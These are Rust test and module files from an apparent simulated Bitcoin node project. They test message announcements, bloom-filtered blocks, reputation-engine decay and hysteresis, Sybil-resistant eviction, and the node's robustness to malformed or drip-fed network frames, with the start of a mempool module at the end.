    fn on_data(&mut self, ctx: &mut Ctx<'_>, _conn: ConnId, _peer: SockAddr, data: &[u8]) {
        self.frames.push(data);
        while let Some(raw) = self.frames.next_frame() {
            if let Ok(msg) = decode_frame(&raw) {
                match &msg {
                    Message::Version(_) => {
                        self.send(ctx, &Message::Verack);
                    }
                    Message::Verack
                        if !self.handshaked => {
                            self.handshaked = true;
                            for m in self.script.clone() {
                                self.send(ctx, &m);
                            }
                        }
                    _ => {}
                }
                self.received.push(msg);
            }
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }
    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

fn node_sim(cfg: NodeConfig) -> Simulator {
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(A, Box::new(Node::new(cfg)), HostConfig::default());
    sim
}

fn submit_one_block(sim: &mut Simulator) -> btc_wire::Hash256 {
    let node: &mut Node = sim.app_mut(A).unwrap();
    let tip = node.chain.tip();
    let hdr = node.chain.block(&tip).unwrap().header;
    let tx = {
        let mut t = btc_wire::Transaction::coinbase(1, &[9, 9, 9]);
        t.inputs_mut()[0].prevout = btc_wire::tx::OutPoint::new(btc_wire::Hash256::hash(b"f"), 0);
        t
    };
    let block = mine_child(&hdr, tip, 31, vec![tx]);
    let hash = block.hash();
    node.submit_block(block);
    hash
}

#[test]
fn high_bandwidth_peer_gets_cmpctblock_announcements() {
    let mut sim = node_sim(NodeConfig::default());
    sim.add_host(
        B,
        Box::new(Probe::new(
            addr(A),
            vec![Message::SendCmpct(btc_wire::compact::SendCmpct {
                announce: true,
                version: 1,
            })],
        )),
        HostConfig::default(),
    );
    sim.run_for(2 * SECS);
    let hash = submit_one_block(&mut sim);
    sim.run_for(3 * SECS);
    let probe: &Probe = sim.app(B).unwrap();
    let got_compact = probe.received.iter().any(
        |m| matches!(m, Message::CmpctBlock(cb) if cb.header.hash() == hash),
    );
    assert!(got_compact, "no CMPCTBLOCK announcement: {:?}",
        probe.received.iter().map(|m| m.command()).collect::<Vec<_>>());
}

#[test]
fn normal_peer_gets_inv_announcements() {
    let mut sim = node_sim(NodeConfig::default());
    sim.add_host(B, Box::new(Probe::new(addr(A), vec![])), HostConfig::default());
    sim.run_for(2 * SECS);
    let hash = submit_one_block(&mut sim);
    sim.run_for(3 * SECS);
    let probe: &Probe = sim.app(B).unwrap();
    let got_inv = probe.received.iter().any(|m| {
        matches!(m, Message::Inv(v) if v.iter().any(|i| i.hash == hash && matches!(i.kind, InvType::Block)))
    });
    assert!(got_inv, "no INV announcement");
    assert!(!probe
        .received
        .iter()
        .any(|m| matches!(m, Message::CmpctBlock(_))));
}

#[test]
fn filtered_block_served_through_bloom_filter() {
    let mut sim = node_sim(NodeConfig::default());
    // First: give the node a block containing a known tx.
    sim.run_for(SECS);
    let hash = submit_one_block(&mut sim);
    sim.run_for(2 * SECS);
    let interesting_txid = {
        let node: &Node = sim.app(A).unwrap();
        node.chain.block(&hash).unwrap().txs[1].txid()
    };
    // A BIP37 client loads a filter matching that txid and requests the
    // filtered block.
    let mut filter = BloomFilter::new(4, 0.0001, 99, BloomFlags::All);
    filter.insert(interesting_txid.as_bytes());
    sim.add_host(
        B,
        Box::new(Probe::new(
            addr(A),
            vec![
                Message::FilterLoad(filter),
                Message::GetData(vec![Inventory::new(InvType::FilteredBlock, hash)]),
            ],
        )),
        HostConfig::default(),
    );
    sim.run_for(3 * SECS);
    let probe: &Probe = sim.app(B).unwrap();
    let merkle = probe
        .received
        .iter()
        .find_map(|m| match m {
            Message::MerkleBlock(mb) => Some(mb.clone()),
            _ => None,
        })
        .expect("no MERKLEBLOCK received");
    assert_eq!(merkle.header.hash(), hash);
    assert_eq!(merkle.total_txs, 2);
    assert!(merkle.hashes.contains(&interesting_txid));
    // The matching transaction follows the merkleblock.
    assert!(probe
        .received
        .iter()
        .any(|m| matches!(m, Message::Tx(t) if t.txid() == interesting_txid)));
}

#[test]
fn filtered_block_without_filter_is_notfound() {
    let mut sim = node_sim(NodeConfig::default());
    sim.run_for(SECS);
    let hash = submit_one_block(&mut sim);
    sim.run_for(2 * SECS);
    sim.add_host(
        B,
        Box::new(Probe::new(
            addr(A),
            vec![Message::GetData(vec![Inventory::new(
                InvType::FilteredBlock,
                hash,
            )])],
        )),
        HostConfig::default(),
    );
    sim.run_for(3 * SECS);
    let probe: &Probe = sim.app(B).unwrap();
    assert!(probe
        .received
        .iter()
        .any(|m| matches!(m, Message::NotFound(v) if !v.is_empty())));
}

#[test]
fn node_sends_keepalive_pings() {
    let mut sim = node_sim(NodeConfig {
        ping_interval: 5 * SECS,
        ..NodeConfig::default()
    });
    sim.add_host(B, Box::new(Probe::new(addr(A), vec![])), HostConfig::default());
    sim.run_for(21 * SECS);
    let probe: &Probe = sim.app(B).unwrap();
    let pings = probe
        .received
        .iter()
        .filter(|m| matches!(m, Message::Ping(_)))
        .count();
    assert!((3..=5).contains(&pings), "pings {pings}");
}

#[test]
fn addr_gossip_feeds_the_addrman_and_outbound_selection() {
    // Node A starts with no outbound targets; a peer gossips C's address;
    // A should dial C.
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(
        A,
        Box::new(Node::new(NodeConfig {
            target_outbound: 1,
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    sim.add_host(
        C,
        Box::new(Node::new(NodeConfig::default())),
        HostConfig::default(),
    );
    sim.add_host(
        B,
        Box::new(Probe::new(
            addr(A),
            vec![Message::Addr(vec![btc_wire::types::TimestampedAddr {
                time: 0,
                addr: NetAddr::new(C, 8333),
            }])],
        )),
        HostConfig::default(),
    );
    sim.run_for(5 * SECS);
    let a: &Node = sim.app(A).unwrap();
    assert!(a.addrman.contains(&addr(C)));
    assert_eq!(a.outbound_count(), 1, "A should have dialed C");
    let c: &Node = sim.app(C).unwrap();
    assert_eq!(c.inbound_count(), 1);
}

#[test]
fn diversity_shrinks_under_full_ip_defamation() {
    // Seed the addrman with identifiers across several hosts, then ban an
    // entire host's ports: usable count and diversity drop.
    let mut node = Node::new(NodeConfig::default());
    for host in 1..=4u8 {
        for port in [8333u16, 8334, 8335] {
            node.addrman.add(
                0,
                SockAddr::new([10, 1, host, 1], port),
                btc_node::addrman::AddrSource::Gossip,
            );
        }
    }
    assert_eq!(node.addrman.usable_count(0, &node.banman), 12);
    let div_before = node.addrman.diversity(0, &node.banman);
    // Full-IP defamation of host 1.
    for port in [8333u16, 8334, 8335] {
        node.banman.ban(0, SockAddr::new([10, 1, 1, 1], port));
    }
    assert_eq!(node.addrman.usable_count(0, &node.banman), 9);
    assert!(node.addrman.diversity(0, &node.banman) <= div_before);
    let _ = MINUTES;
}

/// An app that shovels arbitrary bytes at the node after connecting.
struct GarbageSender {
    target: SockAddr,
    chunks: Vec<Vec<u8>>,
    conn: Option<ConnId>,
}

impl App for GarbageSender {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.conn = Some(ctx.connect(self.target));
    }
    fn on_connected(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, _p: SockAddr, _i: bool) {
        for chunk in &self.chunks {
            ctx.send(conn, chunk);
        }
    }
    fn as_any(&self) -> &dyn Any {
        self
    }
    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[test]
fn garbage_bytes_never_panic_the_node() {
    // Several classes of garbage: random bytes (wrong magic), correct magic
    // with junk command, correct framing with truncated payload, giant
    // declared length.
    let magic = Network::Regtest.magic().to_le_bytes();
    let mut rng: u64 = 0x1234_5678;
    let mut next = move || {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng
    };
    let mut cases: Vec<Vec<Vec<u8>>> = Vec::new();
    // Pure noise.
    cases.push(vec![(0..200).map(|_| next() as u8).collect()]);
    // Correct magic, junk rest.
    let mut with_magic = magic.to_vec();
    with_magic.extend((0..100).map(|_| next() as u8));
    cases.push(vec![with_magic]);
    // Valid header declaring a huge length.
    let mut huge = magic.to_vec();
    huge.extend(*b"block\0\0\0\0\0\0\0");
    huge.extend((5_000_000u32).to_le_bytes());
    huge.extend([0u8; 4]);
    cases.push(vec![huge]);
    // A valid ping frame split into single bytes (reassembly torture).
    let ping = RawMessage::frame(Network::Regtest, &Message::Ping(5)).to_bytes();
    cases.push(ping.iter().map(|b| vec![*b]).collect());

    for (i, chunks) in cases.into_iter().enumerate() {
        let mut sim = node_sim(NodeConfig::default());
        sim.add_host(
            [10, 0, 7, i as u8 + 1],
            Box::new(GarbageSender {
                target: addr(A),
                chunks,
                conn: None,
            }),
            HostConfig::default(),
        );
        sim.run_for(2 * SECS);
        // The node survived; nothing was banned (garbage is dropped or the
        // connection is cut, never punished — there is no Table-I rule for
        // unparseable frames).
        let node: &Node = sim.app(A).unwrap();
        assert_eq!(node.telemetry.bans, 0, "case {i}");
    }
}

#[test]
fn good_score_eviction_protects_peers_with_history() {
    // §IX-A (CKB-style): under slot pressure, evict the lowest-credit
    // inbound peer — Sybil newcomers with zero credit push out themselves,
    // never the peers that earned credit.
    let mut sim = node_sim(NodeConfig {
        max_inbound: 2,
        good_score: true,
        ..NodeConfig::default()
    });
    // Two honest peers connect and earn credit.
    sim.add_host(B, Box::new(Probe::new(addr(A), vec![])), HostConfig::default());
    sim.add_host(C, Box::new(Probe::new(addr(A), vec![])), HostConfig::default());
    sim.run_for(2 * SECS);
    {
        let node: &mut Node = sim.app_mut(A).unwrap();
        assert_eq!(node.inbound_count(), 2);
        // Credit both honest identifiers (as if each relayed a block).
        let addrs: Vec<_> = (49152..49262)
            .flat_map(|p| [SockAddr::new(B, p), SockAddr::new(C, p)])
            .filter(|a| node.peer_by_addr(a).is_some())
            .collect();
        assert_eq!(addrs.len(), 2);
        for a in addrs {
            node.goodscore.credit(2 * SECS, a);
        }
    }
    // A Sybil wave tries to take the slots.
    for i in 0..4u8 {
        sim.add_host(
            [10, 0, 8, i + 1],
            Box::new(Probe::new(addr(A), vec![])),
            HostConfig::default(),
        );
    }
    sim.run_for(3 * SECS);
    let node: &Node = sim.app(A).unwrap();
    // Slot count returns to the limit, and the credited peers survived.
    assert_eq!(node.inbound_count(), 2, "slots back at the limit");
    let survivors: Vec<[u8; 4]> = (49152..49262)
        .flat_map(|p| [SockAddr::new(B, p), SockAddr::new(C, p)])
        .filter(|a| node.peer_by_addr(a).is_some())
        .map(|a| a.ip)
        .collect();
    assert_eq!(survivors.len(), 2, "honest peers evicted: {survivors:?}");
    assert!(survivors.contains(&B) && survivors.contains(&C));
}

#[test]
fn getblocks_is_answered_with_block_inventory() {
    let mut sim = node_sim(NodeConfig::default());
    sim.run_for(SECS);
    let hash = submit_one_block(&mut sim);
    sim.run_for(2 * SECS);
    sim.add_host(
        B,
        Box::new(Probe::new(
            addr(A),
            vec![Message::GetBlocks(btc_wire::types::BlockLocator {
                version: btc_wire::types::PROTOCOL_VERSION,
                hashes: vec![],
                stop: btc_wire::Hash256::ZERO,
            })],
        )),
        HostConfig::default(),
    );
    sim.run_for(2 * SECS);
    let probe: &Probe = sim.app(B).unwrap();
    let got = probe.received.iter().any(|m| {
        matches!(m, Message::Inv(v) if v.iter().any(|i| i.hash == hash && matches!(i.kind, InvType::Block)))
    });
    assert!(got, "getblocks produced no block inv");
}

#[test]
fn mempool_query_returns_tx_inventory() {
    let mut sim = node_sim(NodeConfig::default());
    sim.run_for(SECS);
    let txid = {
        let node: &mut Node = sim.app_mut(A).unwrap();
        let mut tx = btc_wire::Transaction::coinbase(1, &[5, 5, 5]);
        tx.inputs_mut()[0].prevout = btc_wire::tx::OutPoint::new(btc_wire::Hash256::hash(b"m"), 0);
        let txid = tx.txid();
        node.submit_tx(tx);
        txid
    };
    sim.run_for(2 * SECS);
    sim.add_host(
        B,
        Box::new(Probe::new(addr(A), vec![Message::Mempool])),
        HostConfig::default(),
    );
    sim.run_for(2 * SECS);
    let probe: &Probe = sim.app(B).unwrap();
    let got = probe.received.iter().any(|m| {
        matches!(m, Message::Inv(v) if v.iter().any(|i| i.hash == txid))
    });
    assert!(got, "mempool query produced no tx inv");
}

#[test]
fn getaddr_returns_known_addresses() {
    let mut sim = node_sim(NodeConfig {
        outbound_targets: vec![addr(C)],
        ..NodeConfig::default()
    });
    sim.add_host(
        B,
        Box::new(Probe::new(addr(A), vec![Message::GetAddr])),
        HostConfig::default(),
    );
    sim.run_for(2 * SECS);
    let probe: &Probe = sim.app(B).unwrap();
    let got = probe.received.iter().any(|m| {
        matches!(m, Message::Addr(v) if v.iter().any(|a| a.addr.ip == C))
    });
    assert!(got, "getaddr did not return the seeded address");
}
