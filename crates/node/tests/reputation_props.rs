//! Property tests for the trust-tier reputation engine, driven by the
//! in-repo fuzzer (`btc_netsim::prop`): decay monotonicity, hysteresis
//! no-oscillation, graylist re-entry, and bit-exact stock equivalence
//! under [`ReputationConfig::stock_equivalent`].

use btc_netsim::packet::SockAddr;
use btc_netsim::prop::{check, Gen};
use btc_netsim::time::{Nanos, MINUTES, SECS};
use btc_node::banscore::rules::ALL_MISBEHAVIORS;
use btc_node::banscore::{
    BanPolicy, CoreVersion, MisbehaviorTracker, ReputationConfig, ReputationEngine, Tier, Verdict,
};

fn peer(n: u8) -> SockAddr {
    SockAddr::new([10, 0, 0, n], 8333)
}

/// Sampling the decayed score at any later time never shows it grow: the
/// exponential decay law is monotone non-increasing between strikes.
#[test]
fn decay_is_monotone_between_strikes() {
    check("decay_is_monotone_between_strikes", |g: &mut Gen| {
        let mut engine = ReputationEngine::new(ReputationConfig::default());
        let p = peer(1);
        let t0 = g.u64_in(0, 10 * MINUTES);
        // A few strikes of random stock-equivalent weight, all at t0.
        for _ in 0..g.usize_in(1, 4) {
            engine.strike_raw(t0, p, g.u64_in(1, 120) as u32);
        }
        let mut prev = engine.score(t0, &p);
        let mut now = t0;
        for _ in 0..g.usize_in(2, 12) {
            now += g.u64_in(0, 30 * MINUTES);
            let s = engine.score(now, &p);
            assert!(
                s <= prev + 1e-9,
                "score grew without a strike: {prev} -> {s} at {now}"
            );
            prev = s;
        }
        // Far future: fully forgiven (default half-life is 10 min).
        assert!(engine.score(now + 100 * 10 * MINUTES, &p) < 1e-3);
    });
}

/// With the default config a single Light strike (5 pts) is smaller than
/// the hysteresis band (10 pts), so a promotion out of Probation can
/// never be reversed by the very next strike — no tier flapping under
/// alternating strike/credit streams.
#[test]
fn hysteresis_prevents_single_event_oscillation() {
    check("hysteresis_prevents_single_event_oscillation", |g: &mut Gen| {
        let mut engine = ReputationEngine::new(ReputationConfig::default());
        let p = peer(2);
        let mut now: Nanos = 0;
        // Strikes since the last promotion out of Probation; None while
        // the peer has not been promoted (or was never in Probation).
        let mut strikes_since_promotion: Option<u32> = None;
        for _ in 0..g.usize_in(10, 120) {
            now += g.u64_in(10 * SECS, 3 * MINUTES);
            if g.bool() {
                engine.strike_raw(now, p, 5); // Light
                if let Some(n) = strikes_since_promotion.as_mut() {
                    *n += 1;
                }
            } else {
                engine.on_good_block(now, p);
            }
            for t in engine.take_transitions() {
                if t.from == Tier::Probation && t.to < Tier::Probation {
                    strikes_since_promotion = Some(0);
                } else if t.to >= Tier::Probation {
                    if let Some(n) = strikes_since_promotion.take() {
                        assert!(
                            n >= 2,
                            "re-demoted to {:?} after only {n} strike(s) — hysteresis broken",
                            t.to
                        );
                    }
                }
            }
        }
    });
}

/// A served graylist sentence always re-enters at Probation or better —
/// never straight back to Graylist, never Banned — with the score clamped
/// to the probation boundary.
#[test]
fn graylist_expiry_reenters_at_probation() {
    check("graylist_expiry_reenters_at_probation", |g: &mut Gen| {
        let cfg = ReputationConfig::default();
        let mut engine = ReputationEngine::new(cfg);
        let p = peer(3);
        let t0 = g.u64_in(0, MINUTES);
        // Severe strikes until the peer lands in the graylist.
        let mut entered = false;
        for _ in 0..8 {
            if engine.strike_raw(t0, p, 100).graylisted() {
                entered = true;
                break;
            }
        }
        assert!(entered, "severe strikes never graylisted the peer");
        assert!(engine.is_graylisted(t0, &p));
        // Serve the sentence (plus a random margin), then one message.
        let t1 = t0 + cfg.graylist_duration + g.u64_in(0, 2 * cfg.graylist_duration);
        let out = engine.on_message(t1, p);
        assert!(out.deliver, "post-expiry message was rate-limited");
        let reentry = engine
            .take_transitions()
            .into_iter()
            .find(|t| t.from == Tier::Graylist)
            .expect("expiry recorded a transition");
        assert!(
            reentry.to <= Tier::Probation,
            "re-entered at {:?}, not Probation or better",
            reentry.to
        );
        let t = engine.tier(t1, &p);
        assert!(t != Tier::Graylist && t != Tier::Banned, "still soft/hard banned: {t:?}");
        assert!(
            engine.score(t1, &p) <= cfg.probation_threshold + 1e-9,
            "score not clamped to the probation boundary"
        );
    });
}

/// Under [`ReputationConfig::stock_equivalent`] (stock weights, no decay,
/// no graylist, no credit) the engine hard-bans on *exactly* the event
/// the stock `MisbehaviorTracker` does, for any fuzzed rule stream.
#[test]
fn stock_equivalence_ban_on_same_event() {
    check("stock_equivalence_ban_on_same_event", |g: &mut Gen| {
        let version = *g.choose(&[CoreVersion::V0_20, CoreVersion::V0_21, CoreVersion::V0_22]);
        let threshold = g.u64_in(20, 200) as u32;
        let mut stock = MisbehaviorTracker::new(version, BanPolicy::Standard);
        stock.threshold = threshold;
        let mut engine =
            ReputationEngine::new(ReputationConfig::stock_equivalent(version, threshold));
        let peers = [peer(10), peer(11), peer(12)];
        let mut stock_first: [Option<usize>; 3] = [None; 3];
        let mut tiers_first: [Option<usize>; 3] = [None; 3];
        let mut now: Nanos = 0;
        for i in 0..g.usize_in(5, 200) {
            now += g.u64_in(0, MINUTES);
            let which = g.usize_in(0, 2);
            let p = peers[which];
            let rule = *g.choose(&ALL_MISBEHAVIORS);
            let inbound = g.bool();
            let verdict = stock.misbehaving(now, p, inbound, rule);
            let outcome = engine.on_misbehavior(now, p, inbound, rule);
            if stock_first[which].is_none() {
                if let Verdict::Ban { .. } = verdict {
                    stock_first[which] = Some(i);
                }
            }
            if tiers_first[which].is_none() && outcome.banned() {
                tiers_first[which] = Some(i);
            }
        }
        assert_eq!(
            stock_first, tiers_first,
            "stock and stock-equivalent engine banned on different events \
             (version {version:?}, threshold {threshold})"
        );
    });
}
