//! Receive-path tests: the zero-copy batched drain must be byte-for-byte
//! equivalent to the frame-at-a-time loop it replaced, and the bounded
//! receive buffer must disconnect drip-fed eternally-incomplete frames.
//!
//! The equivalence argument is checked two ways: a wire-level property
//! comparing [`FrameAssembler`] against a reimplementation of the old
//! `Vec<u8>`-plus-tail-copy drain across fuzzed delivery split points, and
//! a node-level property asserting that telemetry counters and misbehavior
//! verdicts match a straight-line oracle computed from the frame kinds —
//! independent of how the bytes were chunked in transit.

use btc_netsim::packet::SockAddr;
use btc_netsim::prop::{check, Gen};
use btc_netsim::sim::{App, Ctx, HostConfig, SimConfig, Simulator};
use btc_netsim::tcp::ConnId;
use btc_netsim::time::{MILLIS, SECS};
use btc_node::node::{Node, NodeConfig};
use btc_wire::drain::FrameAssembler;
use btc_wire::message::{read_frame, FrameResult, Message, RawMessage};
use btc_wire::types::{NetAddr, Network, TimestampedAddr};
use std::any::Any;

const NODE: [u8; 4] = [10, 0, 0, 1];
const SENDER: [u8; 4] = [10, 0, 0, 2];

/// The kinds of frame the generators emit, and what each must produce.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    /// Valid ping: decodes, counts in telemetry, +1 message-before-VERSION.
    Ping,
    /// Valid addr: same, with a larger payload.
    Addr,
    /// Checksum field corrupted: dropped before tracking, bad-checksum + 1.
    BadChecksum,
    /// Command field overwritten: frames fine, decode fails, undecodable +1.
    UnknownCmd,
    /// Magic corrupted: framing error — the node disconnects the sender.
    WrongMagic,
}

/// Builds the on-the-wire bytes of one frame of the given kind.
fn segment(kind: Kind, salt: u64) -> Vec<u8> {
    let msg = match kind {
        Kind::Addr => Message::Addr(vec![TimestampedAddr {
            time: salt as u32,
            addr: NetAddr::new([10, 0, 0, 9], 8333),
        }]),
        _ => Message::Ping(salt),
    };
    let mut b = RawMessage::frame(Network::Regtest, &msg).to_bytes().to_vec();
    match kind {
        Kind::BadChecksum => b[20] ^= 0x5a,
        Kind::UnknownCmd => b[4..16].copy_from_slice(b"bogus\0\0\0\0\0\0\0"),
        Kind::WrongMagic => b[0] ^= 0xff,
        _ => {}
    }
    b
}

fn gen_kind(g: &mut Gen) -> Kind {
    *g.choose(&[
        Kind::Ping,
        Kind::Ping,
        Kind::Addr,
        Kind::BadChecksum,
        Kind::UnknownCmd,
        Kind::WrongMagic,
    ])
}

/// Splits `stream` into random non-empty chunks.
fn split_chunks(g: &mut Gen, stream: &[u8]) -> Vec<Vec<u8>> {
    let mut chunks = Vec::new();
    let mut off = 0;
    while off < stream.len() {
        let n = g.usize_in(1, (stream.len() - off + 1).min(97));
        chunks.push(stream[off..off + n].to_vec());
        off += n;
    }
    chunks
}

/// The drain loop the zero-copy path replaced: a growing `Vec<u8>` with an
/// O(k) tail copy per frame, cleared on a framing error.
fn reference_drain(buf: &mut Vec<u8>, out: &mut Vec<RawMessage>) {
    loop {
        match read_frame(Network::Regtest, buf) {
            Ok(FrameResult::Frame { raw, consumed }) => {
                out.push(raw);
                *buf = buf[consumed..].to_vec();
            }
            Ok(FrameResult::Incomplete) => break,
            Err(_) => {
                buf.clear();
                break;
            }
        }
    }
}

#[test]
fn assembler_matches_reference_drain_under_fuzzed_chunking() {
    check("assembler == old drain for any delivery split", |g| {
        let kinds: Vec<Kind> = g.vec_with(0, 16, gen_kind);
        let stream: Vec<u8> = kinds
            .iter()
            .enumerate()
            .flat_map(|(i, &k)| segment(k, i as u64))
            .collect();
        let mut asm = FrameAssembler::new(Network::Regtest);
        let mut refbuf: Vec<u8> = Vec::new();
        let mut got = Vec::new();
        let mut want = Vec::new();
        for chunk in split_chunks(g, &stream) {
            asm.push(&chunk);
            while let Some(raw) = asm.next_frame() {
                got.push(raw);
            }
            refbuf.extend_from_slice(&chunk);
            reference_drain(&mut refbuf, &mut want);
        }
        assert_eq!(got, want, "kinds {kinds:?}");
        assert_eq!(asm.buffered(), refbuf.len(), "residual bytes diverged");
    });
}

/// Dials the node and sends a fixed byte stream, one chunk per millisecond
/// so every chunk arrives as its own delivery tick.
struct ChunkSender {
    target: SockAddr,
    chunks: Vec<Vec<u8>>,
    next: usize,
    conn: Option<ConnId>,
}

impl ChunkSender {
    fn new(target: SockAddr, chunks: Vec<Vec<u8>>) -> Self {
        ChunkSender {
            target,
            chunks,
            next: 0,
            conn: None,
        }
    }
}

impl App for ChunkSender {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.conn = Some(ctx.connect(self.target));
    }

    fn on_connected(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, _peer: SockAddr, _inb: bool) {
        self.conn = Some(conn);
        ctx.set_timer(MILLIS, 0);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: u64) {
        if let (Some(conn), Some(chunk)) = (self.conn, self.chunks.get(self.next)) {
            ctx.send(conn, chunk);
            self.next += 1;
            ctx.set_timer(MILLIS, 0);
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }
    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

/// Runs one node + one ChunkSender sim and returns the node for inspection.
fn run_stream(cfg: NodeConfig, chunks: Vec<Vec<u8>>) -> Simulator {
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(NODE, Box::new(Node::new(cfg)), HostConfig::default());
    sim.add_host(
        SENDER,
        Box::new(ChunkSender::new(SockAddr::new(NODE, 8333), chunks)),
        HostConfig::default(),
    );
    // Budget for the worst case the properties generate: ~700 one-byte
    // chunks at 1 ms apiece. Maintenance ticks in between are harmless
    // with the default (timeouts-off) config.
    sim.run_for(2 * SECS);
    sim
}

#[test]
fn telemetry_and_verdicts_are_chunking_invariant() {
    check("node counters match the frame-kind oracle", |g| {
        let kinds: Vec<Kind> = g.vec_with(1, 12, gen_kind);
        let stream: Vec<u8> = kinds
            .iter()
            .enumerate()
            .flat_map(|(i, &k)| segment(k, i as u64))
            .collect();
        let chunks = split_chunks(g, &stream);

        // Straight-line oracle: the node processes frames in byte order
        // regardless of delivery split; a wrong-magic frame disconnects
        // and everything after it is never seen.
        let (mut exp_msgs, mut exp_bad, mut exp_undec) = (0u64, 0u64, 0u64);
        let mut disconnected = false;
        for &k in &kinds {
            match k {
                Kind::Ping | Kind::Addr => exp_msgs += 1,
                Kind::BadChecksum => exp_bad += 1,
                Kind::UnknownCmd => exp_undec += 1,
                Kind::WrongMagic => {
                    disconnected = true;
                    break;
                }
            }
        }

        let sim = run_stream(NodeConfig::default(), chunks);
        let node: &Node = sim.app(NODE).unwrap();
        assert_eq!(node.telemetry.messages.len() as u64, exp_msgs, "{kinds:?}");
        assert_eq!(node.telemetry.bad_checksum_frames, exp_bad, "{kinds:?}");
        assert_eq!(node.telemetry.undecodable_frames, exp_undec, "{kinds:?}");
        // Every decoded pre-VERSION message is one +1 misbehavior verdict.
        assert_eq!(node.tracker.events().len() as u64, exp_msgs, "{kinds:?}");
        assert_eq!(node.telemetry.bans, 0, "{kinds:?}");
        assert_eq!(
            node.peer_count(),
            usize::from(!disconnected),
            "{kinds:?}"
        );
    });
}

#[test]
fn steady_state_receive_path_never_memmoves() {
    // Whole frames delivered tick-by-tick: the cursor resets in place and
    // the buffer is never compacted or rebuilt.
    let chunks: Vec<Vec<u8>> = (0..50).map(|i| segment(Kind::Ping, i)).collect();
    let sim = run_stream(NodeConfig::default(), chunks);
    let node: &Node = sim.app(NODE).unwrap();
    assert_eq!(node.telemetry.messages.len(), 50);
    let peer = node.peer_by_addr(&node.telemetry.messages[0].from).unwrap();
    assert_eq!(peer.recv_buf.bytes_memmoved(), 0, "steady state must be zero-copy");
    assert_eq!(peer.recv_buf.unconsumed(), 0);
}

#[test]
fn oversized_unframeable_buffer_disconnects() {
    // One large frame dripped halfway against a 100-byte buffer limit:
    // the first tick leaves >100 unframeable bytes buffered, which must
    // disconnect (not ban) the sender.
    let entries: Vec<TimestampedAddr> = (0..10)
        .map(|i| TimestampedAddr {
            time: i,
            addr: NetAddr::new([10, 0, 0, 9], 8333),
        })
        .collect();
    let big = RawMessage::frame(Network::Regtest, &Message::Addr(entries))
        .to_bytes()
        .to_vec();
    assert!(big.len() > 200, "need one frame bigger than the limit");
    let first_half = big[..150].to_vec();
    let cfg = NodeConfig {
        recv_buffer_limit: 100,
        ..NodeConfig::default()
    };
    let sim = run_stream(cfg, vec![first_half]);
    let node: &Node = sim.app(NODE).unwrap();
    assert_eq!(node.peer_count(), 0, "drip-fed peer must be disconnected");
    assert_eq!(node.telemetry.bans, 0, "overflow is a disconnect, not a ban");
    assert_eq!(node.telemetry.messages.len(), 0);
}

#[test]
fn complete_frames_never_trip_the_buffer_limit() {
    // The same tight limit is harmless when frames complete within it.
    let cfg = NodeConfig {
        recv_buffer_limit: 100,
        ..NodeConfig::default()
    };
    let chunks: Vec<Vec<u8>> = (0..10).map(|i| segment(Kind::Ping, i)).collect();
    let sim = run_stream(cfg, chunks);
    let node: &Node = sim.app(NODE).unwrap();
    assert_eq!(node.peer_count(), 1);
    assert_eq!(node.telemetry.messages.len(), 10);
}

#[test]
fn one_byte_drip_decodes_identically() {
    // The pathological chunking: every byte its own delivery. Slower, but
    // byte-for-byte the same outcome as one burst.
    let kinds = [Kind::Ping, Kind::BadChecksum, Kind::Addr, Kind::UnknownCmd];
    let stream: Vec<u8> = kinds
        .iter()
        .enumerate()
        .flat_map(|(i, &k)| segment(k, i as u64))
        .collect();

    let burst = run_stream(NodeConfig::default(), vec![stream.clone()]);
    let drip = run_stream(NodeConfig::default(), stream.iter().map(|&b| vec![b]).collect());
    let (bn, dn): (&Node, &Node) = (burst.app(NODE).unwrap(), drip.app(NODE).unwrap());
    assert_eq!(bn.telemetry.messages.len(), 2);
    assert_eq!(dn.telemetry.messages.len(), 2);
    assert_eq!(bn.telemetry.bad_checksum_frames, dn.telemetry.bad_checksum_frames);
    assert_eq!(bn.telemetry.undecodable_frames, dn.telemetry.undecodable_frames);
    assert_eq!(bn.tracker.events().len(), dn.tracker.events().len());
}
