//! A minimal transaction mempool with the acceptance checks the `TX`
//! ban-score rule depends on.

use btc_wire::compact::{short_id, ShortId};
use btc_wire::tx::Transaction;
use btc_wire::types::Hash256;
use std::collections::BTreeMap;

/// Why a transaction was (or wasn't) accepted.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum TxVerdict {
    /// Accepted into the pool.
    Accepted,
    /// Already present.
    Duplicate,
    /// Structurally invalid (`CheckTransaction` failure) — rejected but not
    /// a SegWit consensus violation.
    Invalid(&'static str),
    /// Invalid by SegWit consensus rules — the Table-I `TX` rule, +100.
    InvalidSegwit(&'static str),
    /// Pool is full.
    Full,
}

/// The mempool.
#[derive(Clone, Debug)]
pub struct Mempool {
    txs: BTreeMap<Hash256, Transaction>,
    max_size: usize,
}

impl Mempool {
    /// Creates a pool holding up to `max_size` transactions.
    pub fn new(max_size: usize) -> Self {
        Mempool {
            txs: BTreeMap::new(),
            max_size,
        }
    }

    /// Runs acceptance checks and inserts on success.
    pub fn accept(&mut self, tx: &Transaction) -> TxVerdict {
        let txid = tx.txid();
        if self.txs.contains_key(&txid) {
            return TxVerdict::Duplicate;
        }
        if let Err(reason) = tx.check() {
            return TxVerdict::Invalid(reason);
        }
        if let Err(reason) = tx.check_witness() {
            return TxVerdict::InvalidSegwit(reason);
        }
        if tx.is_coinbase() {
            return TxVerdict::Invalid("coinbase");
        }
        if self.txs.len() >= self.max_size {
            return TxVerdict::Full;
        }
        self.txs.insert(txid, tx.clone());
        TxVerdict::Accepted
    }

    /// Whether `txid` is present.
    pub fn contains(&self, txid: &Hash256) -> bool {
        self.txs.contains_key(txid)
    }

    /// Fetches a transaction.
